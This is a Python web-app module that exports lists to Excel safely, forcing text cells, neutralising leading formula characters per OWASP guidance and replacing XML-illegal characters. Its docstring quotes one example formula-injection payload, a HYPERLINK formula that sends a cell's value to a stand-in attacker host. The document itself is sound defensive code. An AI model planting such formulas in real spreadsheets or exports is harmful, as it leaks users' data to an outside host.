"""Excel export of a list as it is currently filtered.

openpyxl is not run on the event loop: the workbook is built in a worker thread, so a big export
never stalls the other requests and sockets of the process.

Exports write every text cell as text. openpyxl turns a string that starts with "=" into a live
formula, so `=HYPERLINK("http://evil.example/?"&A1,"click")` typed as a goods name came back as a
clickable formula in every export. Now every str is written as a text cell, and neutralised as
the OWASP CSV-injection guidance says: a string starting with =, +, -, @, tab or CR gets one
leading apostrophe (`'=HYPERLINK(…)`), so it stays inert once the sheet is saved as CSV or pasted
elsewhere (a quotePrefix style, Excel's hidden apostrophe, would be lost there). This apostrophe
is part of the value, so Excel shows it; text that already started with an apostrophe gets one
more, so that a reader removing one gets every value back exactly.
Characters that XML 1.0 cannot hold (control characters other than tab, LF and CR, e.g. a
stored "\\x08") are replaced with U+FFFD, which shows that something was there, instead of
failing the export with openpyxl's IllegalCharacterError. Numbers, dates and None are unchanged.
"""

from __future__ import annotations

import io
from collections.abc import Iterable, Sequence
from functools import partial
from urllib.parse import quote

import anyio
from litestar import Response
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font

MAX_EXPORT_ROWS = 100_000
XLSX_MEDIA_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
QUOTED = (*FORMULA_STARTS, QUOTE)  # text that gets the apostrophe


def yes_no(value: bool) -> str:
    """A flag as an export cell: 是 / 否."""
    return "是" if value else "否"


def safe_text(value: str) -> str:
    """Text as an export writes it: characters XML cannot hold replaced with U+FFFD, and a
    leading =, +, -, @, tab or CR neutralised with one apostrophe. Text that starts with an
    apostrophe gets one more, so that a reader which removes one gets it back unchanged."""
    value = ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)
    return QUOTE + value if value.startswith(QUOTED) else value


def _text_cell(ws, value: str, bold: bool = False) -> WriteOnlyCell:
    cell = WriteOnlyCell(ws)
    cell._value = value[:32767]  # what openpyxl's own setter keeps; bypassed to fix the type
    cell.data_type = "s"
    if bold:
        cell.font = Font(bold=True)
    return cell


def _row(ws, row: Sequence) -> list:
    """openpyxl infers a str's type: a formula when it starts with "=", an error when it is one
    of ERROR_CODES ("#N/A"…), text otherwise. After `safe_text` no value starts with "=", and the
    error codes go as explicit text cells, so every str is written as text. The plain values
    avoid an explicit cell per string, which costs openpyxl an exception each (exports ~25%
    slower)."""
    out = []
    for value in row:
        if isinstance(value, str):
            value = safe_text(value)
            if value in ERROR_CODES:
                value = _text_cell(ws, value)
        out.append(value)
    return out


def workbook_bytes(title: str, headers: Sequence[str], rows: Iterable[Sequence]) -> bytes:
    """One sheet: a bold header row and the rows below (text as text, see the module's doc)."""
    wb = Workbook(write_only=True)
    ws = wb.create_sheet(ILLEGAL_CHARACTERS_RE.sub("\ufffd", title)[:31])
    ws.append([_text_cell(ws, safe_text(h), bold=True) for h in headers])
    for row in rows:
        ws.append(_row(ws, row))
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


async def xlsx_response(filename: str, title: str, headers: Sequence[str], rows: Iterable[Sequence]) -> Response:
    """The workbook as a download, built in a worker thread (the rows, often a generator over
    query results, are gathered here first)."""
    rows = list(rows)
    body = await anyio.to_thread.run_sync(partial(workbook_bytes, title, list(headers), rows))
    return Response(
        body,
        media_type=XLSX_MEDIA_TYPE,
        headers={"Content-Disposition": f"attachment; filename*=UTF-8''{quote(filename)}"},
    )
